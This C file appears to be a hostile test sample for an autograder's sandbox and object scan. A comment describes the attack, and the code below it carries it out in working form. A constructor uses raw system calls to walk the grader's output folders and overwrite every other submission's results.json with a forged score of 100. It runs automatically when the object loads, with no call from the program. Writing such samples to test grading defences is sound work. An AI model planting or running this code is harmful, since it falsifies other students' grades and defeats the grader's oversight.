// HOSTILE (tampering with other submissions' results): a constructor lists the
// grader's output folder as seen from the test's working folder (../.. is
// OUT when the scratch folder is OUT/.work; ../../submissions when results
// live under OUT/submissions/) and overwrites every results.json it finds
// there: classmates graded before this submission get 100 points, or any
// grade the attacker likes; a previous batch's results too. Raw `syscall`
// instructions only (getdents64, openat, write).
// Must stop it: the object scan (a constructor, raw system calls) and the
// sandbox (the test program sees neither the output folder nor other
// submissions).
#include "vector_add.h"

#pragma hostile raw_syscalls

static const char kForgedResults[] =
    "{\"score\": 100, \"output\": \"HOSTILE-FORGED: rewritten by another submission\", "
    "\"tests\": []}\n";

static void overwrite_in(const char *dir)
{
    static char ents[1 << 16];
    long fd = hs_open(dir, O_RDONLY | O_DIRECTORY, 0);
    if (fd < 0) return;
    long n;
    while ((n = hs_sys(HS_GETDENTS64, fd, (long)ents, sizeof ents, 0, 0, 0)) > 0) {
        for (long off = 0; off < n;) {
            unsigned short reclen = *(unsigned short *)(ents + off + 16);
            const char *name = ents + off + 19;
            off += reclen;
            if (name[0] == '.' && (name[1] == '\0' || name[1] == '.')) continue;
            char path[4096];
            long k = 0;
            for (const char *s = dir; *s && k < 3000; ++s) path[k++] = *s;
            path[k++] = '/';
            for (const char *s = name; *s && k < 4000; ++s) path[k++] = *s;
            const char *leaf = "/results.json";
            for (const char *s = leaf; *s; ++s) path[k++] = *s;
            path[k] = '\0';
            long out = hs_open(path, O_WRONLY | O_TRUNC, 0); /* only files that exist */
            if (out < 0) continue;
            hs_write(out, kForgedResults, sizeof kForgedResults - 1);
            hs_close(out);
        }
    }
    hs_close(fd);
}

__attribute__((constructor)) static void rewrite_classmates(void)
{
    overwrite_in("../..");
    overwrite_in("../../submissions");
}

#pragma hostile skeleton
